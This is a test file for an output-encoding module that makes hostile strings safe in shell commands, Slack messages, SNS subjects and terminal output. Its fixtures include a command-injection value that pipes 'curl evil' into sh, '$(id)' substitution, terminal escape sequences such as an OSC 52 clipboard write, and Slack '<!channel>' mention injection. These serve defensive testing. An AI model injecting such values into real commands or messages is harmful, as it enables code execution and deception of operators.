/**
 * Output encoding per medium (lambda/core/encode.ts), driven by hostile strings. Shell quoting is
 * proved against a real bash and dash: what they parse is exactly the value quoted.
 */
import fc from "fast-check";
import { parse as shellQuoteParse } from "shell-quote";
import { describe, expect, it } from "vitest";
import {
  capSlack,
  literal,
  oneLine,
  option,
  quoted,
  shellArg,
  shellCommand,
  slackCode,
  slackCodeBlock,
  slackText,
  subjectLine,
  terminalText,
  token,
} from "../../lambda/core/encode.js";
import { HOSTILE, HOSTILE_VALUES, shellWords, UNSAFE_CHARS, viaUtf8 } from "../support/hostile.js";

/** Slack text in which no mention, link, code span or fence can be formed by the value. */
function expectInertSlack(text: string): void {
  expect(text).not.toMatch(/[<>`]/);
  expect(text).not.toMatch(/&(?!amp;|lt;|gt;)/);
  expect(text).not.toMatch(/(^|[^\w.+-])@\w/);
  expect(text).not.toMatch(UNSAFE_CHARS);
}

describe("oneLine (plain text: e-mail, log lines)", () => {
  it.each(Object.entries(HOSTILE))("folds %s into one visible line, dropping nothing", (_name, value) => {
    // Act
    const line = oneLine(value);

    // Assess
    expect(line).not.toMatch(UNSAFE_CHARS);
    expect(line.split("\n")).toHaveLength(1);
    // Every visible character of the input is still there, in order.
    const visible = value.replace(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/gu, "");
    let at = 0;
    for (const char of visible) {
      at = line.indexOf(char, at);
      expect(at).toBeGreaterThanOrEqual(0);
    }
  });

  it("spells what it folded: newline, carriage return, ESC, bidi override, NUL", () => {
    expect(oneLine("a\nb\rc\u001b[2Jd\u202ee\u0000f")).toBe("a\\nb\\rc\\u001b[2Jd\\u202ee\\u0000f");
  });

  it("caps very long values and says how much was left out", () => {
    const line = oneLine(HOSTILE.long as string, 300);
    expect(line.length).toBeLessThanOrEqual(300);
    expect(line).toMatch(/… \(\d+ more characters\)$/);
    expect(line).not.toContain("Undo");
  });

  it("never yields an unsafe character for any string (property)", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (value) => {
        const line = oneLine(value);
        return !UNSAFE_CHARS.test(line) && !line.includes("\n");
      }),
      { numRuns: 2000, seed: 8 },
    );
  });
});

describe("token and quoted (a value inside prose)", () => {
  it("keeps ARNs and group names bare", () => {
    expect(token("arn:aws:iam::123456789012:role/eks-node")).toBe("arn:aws:iam::123456789012:role/eks-node");
    expect(token("system:node:{{EC2PrivateDNSName}}")).toBe("system:node:{{EC2PrivateDNSName}}");
  });

  it("quotes a value that would fake the words around it", () => {
    expect(token('dev" in system:masters')).toBe('"dev\\" in system:masters"');
    expect(token("dev, system:masters")).toBe('"dev, system:masters"');
    expect(quoted("a\nb")).toBe('"a\\nb"');
    expect(token("")).toBe('""');
  });
});

describe("shellArg / shellCommand (commands an SRE pastes)", () => {
  it("bash runs exactly each hostile value, as one argument on one printable line", () => {
    // Prepare
    const values = HOSTILE_VALUES.filter((v) => !v.includes("\0"));

    // Act
    const words = values.map(shellArg);

    // Assess
    for (const w of words) {
      expect(w).toMatch(/^[\x20-\x7e]+$/);
      expect(w).not.toMatch(/[`@]/);
    }
    expect(shellWords(`start ${words.join(" ")} end`)).toEqual(["start", ...values.map(viaUtf8), "end"]);
  });

  it("dash (POSIX sh) agrees for every value that needs no $'…'", () => {
    const plain = HOSTILE_VALUES.filter((v) => !shellArg(v).startsWith("$'"));
    expect(plain.length).toBeGreaterThan(5);
    expect(shellWords(plain.map(shellArg).join(" "), "dash")).toEqual(plain);
  });

  it("agrees with the shell-quote parser on printable values", () => {
    for (const value of ["x;curl evil|sh;#", "$(id)", "it's", "a b", "s3://bucket/prefix", "--force"]) {
      expect(shellQuoteParse(shellArg(value))).toEqual([value]);
    }
  });

  it("quotes any string so that bash reads it back (property, 300 strings in one bash)", () => {
    const values = fc.sample(
      fc.string({ unit: "binary", maxLength: 40 }).filter((s) => !s.includes("\0")),
      { numRuns: 300, seed: 8 },
    );
    const words = values.map(shellArg);
    for (const w of words) expect(w).toMatch(/^[\x20-\x7e]+$/);
    // Lone surrogates cannot be written as UTF-8: the shell gets U+FFFD there, as any UTF-8 channel would.
    expect(shellWords(words.join(" "))).toEqual(values.map(viaUtf8));
  });

  it("shows a NUL as \\x00 on one line (no shell can pass a NUL in an argument)", () => {
    expect(shellArg(HOSTILE.nul as string)).toBe("$'before\\x00after'");
  });

  it("keeps a literal word unquoted and joins an option value that starts with '-'", () => {
    const command = shellCommand([
      literal("aws-auth-guardian restore"),
      ...option("--cluster", "prod"),
      ...option("--to", "--force"),
      literal("--kubeconfig ~/.kube/config"),
    ]);
    expect(command).toBe("aws-auth-guardian restore --cluster prod --to=--force --kubeconfig ~/.kube/config");
    expect(shellWords(command.replace("aws-auth-guardian", "")).slice(0, 3)).toEqual([
      "restore",
      "--cluster",
      "prod",
    ]);
  });
});

describe("subjectLine (SNS Subject)", () => {
  it.each(Object.entries(HOSTILE))(
    "is one line of printable ASCII under 100 characters for %s",
    (_n, value) => {
      const subject = subjectLine(`[aws-auth DANGEROUS] prod: ${value}`);
      expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
      expect(subject.startsWith("[aws-auth DANGEROUS] prod:")).toBe(true);
    },
  );

  it("is never empty", () => {
    expect(subjectLine("\n\u202e")).toMatch(/^[\x20-\x7e]{1,99}$/);
  });
});

describe("Slack mrkdwn (AWS Chatbot client-markdown)", () => {
  it.each(Object.entries(HOSTILE))("slackText makes %s inert", (_name, value) => {
    const text = slackText(value, 500);
    expectInertSlack(text);
    expect(text).not.toMatch(/[*~]/);
  });

  it.each(Object.entries(HOSTILE))("slackCode keeps %s inside one code span", (_name, value) => {
    const code = slackCode(value, 500);
    expect(code.startsWith("`") && code.endsWith("`")).toBe(true);
    expectInertSlack(code.slice(1, -1));
  });

  it("escapes &, < and > so that <!channel> and links are shown, not acted on", () => {
    expect(slackText("<!channel> & <https://x|y>")).toBe("&lt;!channel&gt; &amp; &lt;https://x|y&gt;");
  });

  it("neutralises @-mentions at the start of a word, not inside an e-mail address", () => {
    expect(slackText("@here jane.doe@example.com")).toBe("\uff20here jane.doe@example.com");
  });

  it("keeps a hostile line inside the code block: exactly one opening and one closing fence", () => {
    const block = slackCodeBlock(HOSTILE_VALUES.map((v) => oneLine(v, 200)));
    expect(block.match(/```/g)).toHaveLength(2);
    expect(block.startsWith("```\n") && block.endsWith("\n```")).toBe(true);
    expectInertSlack(block.slice(4, -4).replace(/\n/g, " "));
  });

  it("never leaves a fence open when cutting a long description", () => {
    const text = `head\n${slackCodeBlock(Array.from({ length: 500 }, (_, i) => `line ${i}`))}`;
    const cut = capSlack(text, 1000);
    expect(cut.length).toBeLessThanOrEqual(1000);
    expect((cut.match(/```/g) ?? []).length % 2).toBe(0);
  });
});

describe("terminalText (whole CLI output)", () => {
  it.each(Object.entries(HOSTILE))(
    "leaves no escape sequence or invisible character from %s",
    (_n, value) => {
      const text = terminalText(`line one\n${value}\nline three\n`);
      expect(text).not.toMatch(/(?![\n\t])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u);
      expect(text.startsWith("line one\n")).toBe(true);
      expect(text.endsWith("\nline three\n")).toBe(true);
    },
  );

  it("escapes rather than strips: the stored sequence stays recognisable", () => {
    expect(terminalText("a\u001b]52;c;Zm9v\u0007b\u001b[2Jc\r\n")).toBe(
      "a\\u001b]52;c;Zm9v\\u0007b\\u001b[2Jc\\r\n",
    );
  });

  it("keeps JSON output valid JSON with the same values", () => {
    const value = { ...HOSTILE, nested: [HOSTILE.bidiOverride, HOSTILE.c1Csi] };
    const printed = terminalText(JSON.stringify(value, null, 2));
    expect(printed).not.toMatch(/[\u0080-\u009f\u202e]/);
    expect(JSON.parse(printed)).toEqual(value);
  });
});
